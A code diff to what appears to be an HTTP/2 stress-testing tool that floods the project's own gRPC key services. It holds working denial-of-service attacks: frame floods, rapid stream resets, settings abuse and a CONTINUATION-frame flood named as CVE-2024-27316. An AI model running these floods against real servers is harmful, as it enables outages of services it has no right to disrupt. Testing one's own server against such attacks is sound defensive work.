@@ -15,8 +15,8 @@ import (
 )
 
 // flood writes the same frames again and again on every connection. prepare is called for each
-// connection, and returns a function that writes some frames.
-func (r *Run) flood(ctx context.Context, connections int, manner manner, prepare func(c *conn, random *rand.Rand) (func() error, error)) {
+// connection, and returns a function that writes some frames; these have so many bytes of data.
+func (r *Run) flood(ctx context.Context, connections, data int, manner manner, prepare func(c *conn, random *rand.Rand) (func() error, error)) {
 	r.crowd(ctx, connections, func(ctx context.Context, random *rand.Rand) error {
 		c, err := r.connect(ctx, random, manner)
 		if err != nil {
@@ -27,7 +27,7 @@ func (r *Run) flood(ctx context.Context, connections int, manner manner, prepare
 		if err != nil {
 			return err
 		}
-		for ctx.Err() == nil && !c.isGone() {
+		for ctx.Err() == nil && c.await(data) {
 			if err := c.write(frames); err != nil {
 				return err
 			}
@@ -54,7 +54,7 @@ func repeated(c *conn, write func(framer *http2.Framer) error) (func() error, er
 // floodOf is an attack with equal frames on no stream.
 func floodOf(write func(framer *http2.Framer) error) func(context.Context, *Run) {
 	return func(ctx context.Context, r *Run) {
-		r.flood(ctx, 4, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) { return repeated(c, write) })
+		r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) { return repeated(c, write) })
 	}
 }
 
@@ -113,7 +113,7 @@ var (
 // SETTINGS costs work for each stream.
 func windowSettings(ctx context.Context, r *Run) {
 	headers := r.headers(keysvcv1.SyncService_Sync_FullMethodName)
-	r.flood(ctx, 4, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
+	r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
 		err := c.write(func() error {
 			for range 900 {
 				if _, err := c.open(headers, false); err != nil {
@@ -140,11 +140,8 @@ func windowSettings(ctx context.Context, r *Run) {
 func rapidResets(method string, message []byte) func(context.Context, *Run) {
 	return func(ctx context.Context, r *Run) {
 		headers := r.headers(method)
-		r.flood(ctx, 4, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
+		r.flood(ctx, 4, 64*len(message), manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
 			return func() error {
-				if !c.await(64 * len(message)) {
-					return errEnded
-				}
 				for range 64 {
 					stream, err := c.open(headers, false)
 					if err != nil {
@@ -167,11 +164,8 @@ func rapidResets(method string, message []byte) func(context.Context, *Run) {
 func madeResets(ctx context.Context, r *Run) {
 	headers := r.headers(keysvcv1.KeyService_ListKeys_FullMethodName)
 	list := r.wholeList()
-	r.flood(ctx, 4, manner{window: maxWindow, generous: true}, func(c *conn, _ *rand.Rand) (func() error, error) {
+	r.flood(ctx, 4, 32*len(list), manner{window: maxWindow, generous: true}, func(c *conn, _ *rand.Rand) (func() error, error) {
 		return func() error {
-			if !c.await(32 * len(list)) {
-				return errEnded
-			}
 			for range 32 {
 				stream, err := c.open(headers, false)
 				if err != nil {
@@ -187,22 +181,24 @@ func madeResets(ctx context.Context, r *Run) {
 	})
 }
 
-// continuations begins a header block that never ends: CVE-2024-27316.
-func continuations(ctx context.Context, r *Run) {
-	headers := r.headers(keysvcv1.ValidationService_ValidateKey_FullMethodName)
-	field := r.headers("/x", "x-filler", strings.Repeat("x", 200))
-	r.flood(ctx, 4, manner{window: maxWindow}, func(c *conn, random *rand.Rand) (func() error, error) {
-		stream := c.next
-		c.next += 2
-		if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers}); err != nil {
-			return nil, err
+// continuations begins a header block that never ends: CVE-2024-27316. Empty frames cost the
+// server work, and no memory.
+func continuations(value string) func(context.Context, *Run) {
+	return func(ctx context.Context, r *Run) {
+		headers := r.headers(keysvcv1.ValidationService_ValidateKey_FullMethodName)
+		var fragment []byte
+		if value != "" {
+			fragment = r.headers("/x", "x-filler", value)
 		}
-		fragment := field
-		if random.IntN(2) == 0 {
-			fragment = nil // empty frames cost the server work, and no memory
-		}
-		return repeated(c, func(f *http2.Framer) error { return f.WriteContinuation(stream, false, fragment) })
-	})
+		r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
+			stream := c.next
+			c.next += 2
+			if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers}); err != nil {
+				return nil, err
+			}
+			return repeated(c, func(f *http2.Framer) error { return f.WriteContinuation(stream, false, fragment) })
+		})
+	}
 }
 
 // manyFields sends calls with as many small header fields as possible, and largeFields calls with
@@ -237,7 +233,7 @@ func references(ctx context.Context, r *Run) {
 // headerFlood sends calls with a header block, in as many frames as it needs.
 func (r *Run) headerFlood(ctx context.Context, block []byte) {
 	const size = 16 << 10
-	r.flood(ctx, 4, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
+	r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
 		return func() error {
 			stream := c.next
 			c.next += 2
